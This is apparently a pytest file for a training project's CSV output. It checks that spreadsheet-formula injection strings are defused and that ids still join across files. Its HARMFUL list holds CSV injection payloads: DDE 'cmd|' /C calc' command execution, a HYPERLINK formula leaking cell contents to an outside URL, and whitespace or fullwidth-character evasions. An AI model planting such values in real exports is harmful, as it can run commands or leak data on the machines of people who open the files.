"""What a spreadsheet would compute is text, and ids stay what other files are joined by."""

import csv
from dataclasses import replace

import numpy as np
import pyarrow.csv
import pytest

from tests.fake_results import make_result
from tests.folds.fold_cases import plan
from trainer.folds.io.split_files import read_split, write_split
from trainer.store.result_files import write_oof
from trainer.system.spreadsheets import defused, defused_id
from trainer.tasks import TASKS

PLAIN = ["-12", "+44", "+44 20 7946-0958", "@user", "=x", "-", "=A1", "007", "1e5", "a(b)", "多", "＝x", "x|y", "o'b"]
HARMFUL = [
    '=HYPERLINK("http://a.b/?"&A1)',
    "=cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|'x'!A0",
    "+1-1|x",
    "-2+3+cmd|' /C calc'!D2",
    "=[book.xlsx]Sheet1!A1",
    "=\nSUM(1)",
    "\t=1",
    "\r=1",
    "＝SUM（1）",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_what_could_do_harm_is_never_a_formula(text):
    assert defused(text) == defused_id(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_an_id_that_could_not_is_left_alone(text):
    assert defused_id(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [("=x", "'=x"), ("@a", "'@a"), ("-0.5", "-0.5"), ("+1e-3", "+1e-3"), ("-", "'-"), ("", ""), ("a=b", "a=b")],
)
def test_text_is_no_formula_and_a_number_stays_one(text, cell):
    assert defused(text) == cell


def test_every_row_is_found_by_its_id_in_the_data_it_came_from(tmp_path):
    _, oof, _ = make_result()
    ids = [*PLAIN, *(f"row {i}" for i in range(len(oof.ids) - len(PLAIN)))]
    with (tmp_path / "data.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("id", "feature"), *((one, place) for place, one in enumerate(ids))])
    write_oof(tmp_path, replace(oof, ids=np.array(ids)), ("a", "b", "c"), TASKS["multiclass"])
    text = pyarrow.csv.ConvertOptions(column_types={"id": "string"})
    data, scored = (pyarrow.csv.read_csv(tmp_path / name, convert_options=text) for name in ("data.csv", "oof.csv"))
    joined = data.join(scored, "id", join_type="inner")
    assert joined.num_rows == len(ids)
    assert scored["id"].to_pylist() == ids


def test_folds_are_found_again_whatever_the_ids(tmp_path):
    ids = np.array([*PLAIN, *HARMFUL])
    made = plan(np.arange(len(ids)) % 2, ids_N=ids, n_splits=2)
    write_split(tmp_path / "folds.csv", made, ids)
    assert np.array_equal(read_split(tmp_path / "folds.csv", ids), made.fold_of_row)
